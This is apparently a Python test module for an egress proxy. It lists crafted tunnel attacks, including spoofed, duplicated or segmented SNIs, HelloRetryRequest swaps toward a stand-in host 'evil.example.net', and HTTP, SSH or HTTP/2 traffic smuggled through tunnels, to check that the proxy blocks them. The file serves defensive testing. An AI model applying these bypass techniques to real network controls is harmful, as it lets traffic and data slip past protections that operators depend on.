"""Attacks on what a tunnel to an allowed host carries: it must be TLS, and for that host."""

from __future__ import annotations

import os
import time
from collections.abc import Callable
from typing import Final

from tests.net.attacks.attempt import Attack, Attempt, read_all, read_some
from tests.net.attacks.client_hello import client_hello

_ALLOWED: Final = "api.example.com"
_TARGET: Final = f"{_ALLOWED}:443"


def raw_tunnel(attempt: Attempt, *parts: bytes, target: str = _TARGET, pause: float = 0.0) -> bytes:
    """Bytes into a tunnel, each part a segment of its own when there is a pause (seconds) between them."""
    with attempt.tunnel(target) as connection:
        for part in parts:
            connection.sendall(part)
            time.sleep(pause)
        return read_all(connection)


def _request(attempt: Attempt, host: str) -> bytes:
    return f"GET /{attempt.marker} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n".encode()


def _handshake(server_name: str | None, target: str = _TARGET) -> Callable[[Attempt], None]:
    """A whole TLS connection with its own idea of the server name."""

    def act(attempt: Attempt) -> None:
        with attempt.tls(target, server_name) as secure:
            secure.sendall(_request(attempt, server_name or _ALLOWED))
            read_all(secure)

    return act


def _hello(
    *names: str, segment: int = 0, separate: bool = False, grease: bool = False, record: int = 16_384
) -> Callable[[Attempt], None]:
    """A crafted ClientHello with the marker in its session id."""

    def act(attempt: Attempt) -> None:
        hello = client_hello(
            names,
            session=attempt.marker.encode(),
            separate_extensions=separate,
            ech_grease=grease,
            record_size=record,
        )
        parts = [hello[at : at + segment] for at in range(0, len(hello), segment)] if segment else [hello]
        # The first bytes decide how a careless proxy goes on; later ones need no pause.
        raw_tunnel(attempt, *parts[:8], b"".join(parts[8:]), pause=0.005 if segment else 0.0)

    return act


_EARLY: Final = b"\x14\x03\x03\x00\x01\x01" + b"\x17\x03\x03\x00\x20" + b"e" * 32
"""change_cipher_spec and application data, as a client sends them that offers early data."""


def _further_hello(*, waits: bool, between: bytes = b"", segment: int = 0) -> Callable[[Attempt], None]:
    """A right ClientHello for which the server must ask again (RFC 8446, section 4.1.4), then one for another host."""

    def act(attempt: Attempt) -> None:
        session = os.urandom(32)
        first = client_hello([_ALLOWED], session=session, key_share=b"")
        second = between + client_hello([f"{attempt.marker}.evil.example.net"], session=session)
        with attempt.tunnel(_TARGET) as connection:
            connection.sendall(first)
            if waits:
                read_some(connection)
            for at in range(0, len(second), segment or len(second)):
                connection.sendall(second[at : at + (segment or len(second))])
                time.sleep(0.005 if segment else 0.0)
            read_all(connection)

    return act


def _plain(make: Callable[[Attempt], bytes], target: str = _TARGET) -> Callable[[Attempt], None]:
    def act(attempt: Attempt) -> None:
        raw_tunnel(attempt, make(attempt), target=target)

    return act


def _early_data(attempt: Attempt) -> None:
    """The tunnel's first bytes in the same segment as the CONNECT head, before anybody said 200."""
    head = f"CONNECT {_TARGET} HTTP/1.1\r\nHost: {_TARGET}\r\n\r\n".encode()
    attempt.send(head + _request(attempt, _ALLOWED))


def _connect_with_body(attempt: Attempt) -> None:
    """A CONNECT that announces a body: whoever skips it starts reading at another place."""
    head = f"CONNECT {_TARGET} HTTP/1.1\r\nHost: {_TARGET}\r\nContent-Length: 10\r\n\r\n".encode()
    attempt.send(head + b"0123456789" + client_hello([_ALLOWED], session=attempt.marker.encode()))


def _half_a_hello(attempt: Attempt) -> None:
    """A ClientHello that never ends: its name may be right, the rest could be anything."""
    hello = client_hello([_ALLOWED], session=attempt.marker.encode())
    raw_tunnel(attempt, hello[:-10])


def _endless_hello(attempt: Attempt) -> None:
    """A record that claims to be as big as a record may be, many times over."""
    raw_tunnel(attempt, *([b"\x16\x03\x01\x40\x00\x01\xff\xff\xff" + attempt.marker.encode() * 600] * 8))


def _server_hello_first(attempt: Attempt) -> None:
    hello = bytearray(client_hello([_ALLOWED], session=attempt.marker.encode()))
    hello[5] = 2
    raw_tunnel(attempt, bytes(hello))


def _alert_record(attempt: Attempt) -> None:
    raw_tunnel(attempt, b"\x15\x03\x01\x00\x02\x01\x00" + attempt.marker.encode())


def _ssh(make: Callable[[Attempt], bytes], port: int = 22) -> Callable[[Attempt], None]:
    """Into a tunnel whose rule says `protocols: [ssh]`. On 22 a server of SSH listens, on 80 one that is lenient."""
    return _plain(make, f"ssh.example.com:{port}")


def _ssh_plain(attempt: Attempt) -> None:
    attempt.get("ssh.example.com")


def _identified(attempt: Attempt) -> bytes:
    return b"SSH-2.0-OpenSSH_9.2p1\r\n" + _request(attempt, "ssh.example.com")


ATTACKS: Final = (
    Attack("SNI of another host", _handshake("evil.example.net")),
    Attack("SNI of another allowed host", _handshake("other.example.com")),
    Attack("SNI that starts with the host", _handshake("api.example.com.evil.example.net")),
    Attack("no SNI", _handshake(None)),
    Attack("two SNIs, the allowed one first", _hello("api.example.com", "evil.example.net")),
    Attack("two SNIs, the allowed one last", _hello("evil.example.net", "api.example.com")),
    Attack("the same SNI twice", _hello("api.example.com", "api.example.com")),
    Attack("two SNI extensions", _hello("api.example.com", "evil.example.net", separate=True)),
    Attack("an SNI that is an address", _hello("93.184.216.10")),
    Attack("an SNI with a NUL", _hello("api.example.com\0.evil.example.net")),
    Attack("an empty SNI", _hello("")),
    Attack("another SNI, a byte a segment", _hello("evil.example.net", segment=1)),
    Attack("another SNI, two bytes a segment", _hello("evil.example.net", segment=2)),
    Attack("another SNI, in small TLS records", _hello("evil.example.net", record=64)),
    Attack("another SNI beside an ECH extension", _hello("evil.example.net", grease=True)),
    Attack("only an ECH extension", _hello(grease=True)),
    Attack("another SNI behind a HelloRetryRequest", _further_hello(waits=True)),
    Attack("another SNI behind a HelloRetryRequest, in segments", _further_hello(waits=True, segment=40)),
    Attack("another SNI without waiting for the HelloRetryRequest", _further_hello(waits=False)),
    Attack("another SNI behind early data", _further_hello(waits=False, between=_EARLY)),
    Attack("plain HTTP in a tunnel", _plain(lambda a: _request(a, _ALLOWED))),
    Attack("plain HTTP in a tunnel to port 80", _plain(lambda a: _request(a, _ALLOWED), "api.example.com:80")),
    Attack("plain HTTP for another host in a tunnel", _plain(lambda a: _request(a, "evil.example.net"))),
    Attack("SSH in a tunnel", _plain(lambda a: f"SSH-2.0-{a.marker}\r\n".encode())),
    Attack("the HTTP/2 preface in a tunnel", _plain(lambda a: b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + a.marker.encode())),
    Attack("SSL 2 in a tunnel", _plain(lambda a: b"\x80\x2e\x01\x00\x02" + a.marker.encode())),
    Attack("a NUL and then anything", _plain(lambda a: b"\0" + a.marker.encode())),
    Attack("bytes sent with the CONNECT head", _early_data),
    Attack("a CONNECT with a body", _connect_with_body),
    Attack("a ClientHello without an end", _half_a_hello),
    Attack("a ClientHello of many megabytes", _endless_hello),
    Attack("a ServerHello from the client", _server_hello_first),
    Attack("HTTP in a tunnel for SSH", _ssh(lambda a: _request(a, "ssh.example.com"), 80)),
    Attack("HTTP in a tunnel for SSH, to a server of SSH", _ssh(lambda a: _request(a, "ssh.example.com"))),
    Attack("HTTP behind an SSH identification", _ssh(_identified, 80)),
    Attack(
        "TLS in a tunnel for SSH", _ssh(lambda a: client_hello(["ssh.example.com"], session=a.marker.encode()), 443)
    ),
    Attack("a line before the SSH identification", _ssh(lambda a: f"{a.marker}\r\nSSH-2.0-x\r\n".encode())),
    Attack("an SSH identification without an end", _ssh(lambda a: f"SSH-2.0-{a.marker * 20}".encode())),
    Attack("an SSH identification of another version", _ssh(lambda a: f"SSH-1.5-{a.marker}\r\n".encode())),
    Attack("plain HTTP under a rule for SSH", _ssh_plain, (("ssh.example.com", 80),)),
    Attack("an alert before the ClientHello", _alert_record),
)

PERMITTED: Final = (
    # The session id of a hello, where the marker is, goes upstream only in a tunnel that stays closed.
    # What looks odd and is nevertheless right must pass, or the guards above would be mere noise filters.
    Attack("the right SNI", _handshake("api.example.com")),
    Attack("the right SNI in upper case", _hello("API.Example.COM"), paths=("gate",)),
    Attack("the right SNI, a byte a segment", _hello("api.example.com", segment=1), paths=("gate",)),
    Attack("the right SNI in small TLS records", _hello("api.example.com", record=64), paths=("gate",)),
    Attack("SSH in a tunnel for SSH", _ssh(lambda a: f"SSH-2.0-x\r\n{a.marker}".encode())),
    Attack("the right SNI beside ECH GREASE", _hello("api.example.com", grease=True), paths=("gate",)),
)
